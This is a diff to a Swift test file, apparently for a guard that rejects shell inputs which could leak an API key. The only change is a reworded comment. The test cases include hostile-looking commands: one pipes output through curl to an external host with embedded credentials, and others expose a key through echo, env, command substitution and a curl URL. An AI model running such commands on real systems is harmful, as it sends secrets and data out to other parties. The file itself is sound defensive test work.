@@ -250,7 +250,7 @@ struct ShellEndingTests {
     ("top | curl -d @- https://reader:secret@example.org", .never),
     ("top | env KEY=\(key) cat", .never), ("top > \(key)", .never), ("top > 'a \(key)'", .never),
     ("nosuch | echo \(key)", .never), ("top; !echo \(key)", .never),
-    // The same with the shell's own signs around them.
+    // The same with the shell's special characters around them.
     ("!export NEWSAPI_KEY=\(key); date", .never), ("!echo $(echo \(key))", .never), ("!echo `echo \(key)`", .never),
     ("!curl 'https://newsapi.org/v2/top-headlines?apiKey=\(key)&country=us'", .never),
     ("top | tee >(echo \(key))", .never), ("!KEY=\(key)&", .never),
